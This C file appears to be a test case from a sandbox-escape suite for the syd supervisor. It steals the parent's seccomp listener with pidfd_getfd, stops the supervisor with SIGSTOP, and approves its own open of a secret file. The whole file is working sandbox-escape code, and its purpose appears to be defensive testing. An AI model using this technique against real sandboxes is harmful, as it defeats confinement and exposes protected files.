/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Extra attack: take the supervisor's own seccomp listener. The sandboxed
 * process's parent is syd; with pidfd_getfd(2) (ptrace access to the
 * parent: same uid, or CAP_SYS_PTRACE) it can copy syd's listener fd, stop
 * syd with SIGSTOP so that syd's threads receive nothing, and answer its
 * own open of the secret with SECCOMP_USER_NOTIF_FLAG_CONTINUE.
 *
 * Without syd there is no listener to steal and nothing checks the open:
 * the native run then only shows that a plain open is detected.
 */
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include "esc.h"

static int listener = -1;
static pid_t parent;

/* Never leave syd stopped, whatever happens to us. */
static void resume_parent(int sig)
{
	(void)sig;
	kill(parent, SIGCONT);
	_exit(ESC_SETUP);
}

/* A seccomp listener answers ID_VALID for an unknown id with ENOENT. */
static bool is_listener(int fd)
{
	uint64_t id = UINT64_MAX;

	return ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 &&
	       errno == ENOENT;
}

int main(int argc, char **argv)
{
	struct esc e;
	pthread_t t;
	int pidfd, fd, err;

	esc_init(&e, argc, argv);
	parent = getppid();
	pidfd = (int)syscall(SYS_pidfd_open, parent, 0);
	if (pidfd < 0)
		esc_exit(&e, ESC_BLOCKED, "pidfd_open(parent): %s",
			 esc_errname(errno));
	err = 0;
	for (int n = 0; n < 1024 && listener < 0; n++) {
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd < 0) {
			if (errno != EBADF)
				err = errno;
			continue;
		}
		if (is_listener(fd))
			listener = fd;
		else
			close(fd);
	}
	if (listener < 0 && err)
		esc_exit(&e, ESC_BLOCKED, "pidfd_getfd(parent): %s",
			 esc_errname(err));
	if (listener < 0) {
		/* Not supervised: a plain open shows what an escape reads. */
		if (esc_check_close(open(e.secret, O_RDONLY | O_CLOEXEC)))
			esc_exit(
				&e, ESC_ESCAPED,
				"no supervisor listener in the parent; a plain "
				"open read TOPSECRET");
		esc_exit(&e, ESC_BLOCKED,
			 "no listener in the parent, plain open: %s",
			 esc_errname(errno));
	}
	printf("# copied the parent's seccomp listener as fd %d\n", listener);
	signal(SIGALRM, resume_parent);
	alarm(10);
	if (kill(parent, SIGSTOP) < 0)
		printf("# SIGSTOP to the parent: %s; racing it instead\n",
		       esc_errname(errno));
	if (pthread_create(&t, NULL, esc_answer_continue,
			   (void *)(intptr_t)listener) != 0) {
		kill(parent, SIGCONT);
		esc_exit(&e, ESC_SETUP, "pthread_create failed");
	}
	/*
	 * A group stop is asynchronous: a thread of syd's may still take an
	 * open or two. Give it a moment, then try a few times.
	 */
	usleep(100 * 1000);
	for (int i = 0; i < 20; i++) {
		fd = open(e.secret, O_RDONLY | O_CLOEXEC);
		err = errno;
		if (esc_check_close(fd)) {
			kill(parent, SIGCONT);
			esc_exit(&e, ESC_ESCAPED,
				 "answered our own open with the stolen "
				 "listener: read TOPSECRET (try %d)",
				 i + 1);
		}
		usleep(10 * 1000);
	}
	kill(parent, SIGCONT);
	esc_exit(&e, ESC_BLOCKED, "open with the stolen listener: %s",
		 fd < 0 ? esc_errname(err) : "opened, not the secret");
}
